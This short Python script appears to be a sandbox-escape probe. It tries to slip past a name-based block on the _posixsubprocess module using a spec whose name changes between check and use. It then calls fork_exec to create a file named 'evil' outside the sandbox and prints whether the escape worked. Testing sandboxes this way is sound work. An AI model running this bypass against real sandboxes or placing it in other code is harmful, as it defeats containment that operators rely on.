# A built-in module asked for by a spec whose name changes while it is read: a table of names does not recognise it.
# says: start a program
import _imp, sys, os
sys.modules.pop("_posixsubprocess", None)
names = iter(["_posixsubprocess"] * 4)
Spec = type("Spec", (), {"name": property(lambda self: next(names, "harmless")), "origin": "built-in", "loader": None, "parent": "", "submodule_search_locations": None})
module = None
for count in range(6):
    names = iter(["_posixsubprocess"] * count)
    try:
        module = _imp.create_builtin(Spec()) or module
        _imp.exec_builtin(module)
        if hasattr(module, "fork_exec"):
            module.fork_exec([b"/bin/touch", outside.encode() + b"/evil"], [b"/bin/touch"], True, (), None, None,
                             -1, -1, -1, -1, -1, -1, *os.pipe(), False, False, 0, None, None, None, -1, None, False)
            print("ESCAPED")
    except PermissionError:
        print("refused")
    except Exception as error:
        print(type(error), error)
import _posixsubprocess
_posixsubprocess.fork_exec()
